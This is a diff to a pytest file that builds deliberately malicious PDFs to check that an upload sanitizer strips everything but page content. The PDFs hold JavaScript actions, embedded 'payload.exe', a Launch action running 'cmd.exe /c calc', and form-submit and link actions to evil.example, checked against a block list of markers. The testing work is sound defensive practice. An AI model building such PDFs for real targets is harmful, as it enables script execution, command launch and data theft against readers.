@@ -123,3 +123,90 @@ def test_a_file_stored_before_re_encoding_is_served_as_an_opaque_download(client
     assert served.mimetype == "application/octet-stream"
     assert served.headers["Content-Disposition"].startswith("attachment")
     assert served.headers["X-Content-Type-Options"] == "nosniff"
+
+
+def _pdf(*objects):
+    """A PDF with these object bodies (numbered from 1, object 1 the catalog) and a correct xref."""
+    out, offsets = bytearray(b"%PDF-1.7\n"), []
+    for number, body in enumerate(objects, 1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
+    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
+    return bytes(out)
+
+
+def _stream(data, extra=b""):
+    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"
+
+
+FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
+PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
+
+
+def _page_associated_file_pdf():
+    """The attacker's af.pdf: a page-level /AF with an embedded file, /PieceInfo holding a script."""
+    return _pdf(
+        b"<< /Type /Catalog /Pages 2 0 R >>", PAGES,
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /AF [5 0 R] "
+        b"/PieceInfo << /X << /Private 7 0 R >> >> /Thumb 6 0 R /Resources << /Font << /F1 " + FONT + b" >> >> >>",
+        _stream(b"BT /F1 24 Tf 72 700 Td (AF test) Tj ET"),
+        b"<< /Type /Filespec /F (payload.exe) /UF (payload.exe) /AFRelationship /Data /EF << /F 6 0 R >> >>",
+        _stream(b"AFPAYLOADMARKER", b"/Type /EmbeddedFile"),
+        b"<< /Type /Action /S /JavaScript /JS (app.alert\\(7\\);) >>")
+
+
+def _scripts_in_resources_pdf():
+    """The attacker's bomb.pdf: an action under /Resources (/JS) and a font's /AA, a deflated page."""
+    content = zlib.compress(b"BT /F1 24 Tf 72 700 Td (Resources test) Tj ET\n" + b" " * 200_000)
+    return _pdf(
+        b"<< /Type /Catalog /Pages 2 0 R >>", PAGES,
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /JS 5 0 R "
+        b"/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica /AA << /O 5 0 R >> >> >> >> >>",
+        _stream(content, b"/Filter /FlateDecode"),
+        b"<< /Type /Action /S /JavaScript /JS (app.alert\\(\"FONTJS\"\\);) >>")
+
+
+def _actions_everywhere_pdf():
+    """The attacker's evil.pdf: open action, names tree, form, page /AA with a Launch, link and widget."""
+    return _pdf(
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 5 0 R >> /Names << /JavaScript << "
+        b"/Names [(x) 5 0 R] >> /EmbeddedFiles << /Names [(evil.exe) 7 0 R] >> >> /AcroForm << /Fields [9 0 R] >> >>",
+        PAGES,
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 "
+        + FONT + b" >> >> /AA << /O 5 0 R /C 6 0 R >> /Annots [10 0 R 9 0 R] >>",
+        _stream(b"BT /F1 24 Tf 72 700 Td (Hello EVILPDF) Tj ET"),
+        b"<< /Type /Action /S /JavaScript /JS (app.alert\\(\"EVILJS\"\\);) >>",
+        b"<< /Type /Action /S /Launch /F (calc.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
+        b"<< /Type /Filespec /F (evil.exe) /EF << /F 8 0 R >> >>",
+        _stream(b"EVILPAYLOAD", b"/Type /EmbeddedFile"),
+        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (f1) /Rect [0 0 100 20] /P 3 0 R /AA << /K 5 0 R >> "
+        b"/A << /S /SubmitForm /F << /FS /URL /F (http://evil.example/submit) >> >> >>",
+        b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (http://evil.example/phish) >> >>")
+
+
+# Nothing of these may survive anywhere in the stored file, referenced or not.
+PDF_LEFTOVERS = (b"AFPAYLOADMARKER", b"EVILPAYLOAD", b"EVILJS", b"FONTJS", b"app.alert", b"calc.exe", b"cmd.exe",
+                 b"payload.exe", b"evil.exe", b"evil.example", b"/AF", b"/PieceInfo", b"/AA", b"/JS", b"/JavaScript",
+                 b"/Launch", b"/URI", b"/SubmitForm", b"/EmbeddedFile", b"/Annots", b"/AcroForm", b"/OpenAction",
+                 b"/Thumb", b"/Names", b"/Filespec", b"/Widget", b"/Action")
+
+
+@pytest.mark.parametrize("source, text", [(_page_associated_file_pdf, "AF test"),
+                                          (_scripts_in_resources_pdf, "Resources test"),
+                                          (_actions_everywhere_pdf, "Hello EVILPDF")],
+                         ids=["page-af-pieceinfo", "resources-js-font-aa", "actions-annotations-orphans"])
+def test_only_page_content_survives_in_a_stored_pdf(client, trainee, db, source, text):
+    data = source()
+    assert len(PdfReader(io.BytesIO(data)).pages) == 1  # the construction itself is a valid PDF
+    created = upload(client, trainee, data, kind="business_licence", filename="licence.pdf")
+    assert created.status_code == 201, created.json
+    stored = gridfs.GridFSBucket(db, bucket_name="attachments").open_download_stream(
+        _stored(db)[0]["_id"]).read()
+    served = client.get(f"/api/v1/attachments/{created.json['id']}", headers=bearer(trainee)).data
+    assert served == stored
+    assert [marker for marker in PDF_LEFTOVERS if marker in stored] == []
+    page = PdfReader(io.BytesIO(stored)).pages[0]
+    assert text in page.extract_text() and "/Font" in page["/Resources"]  # the page still draws
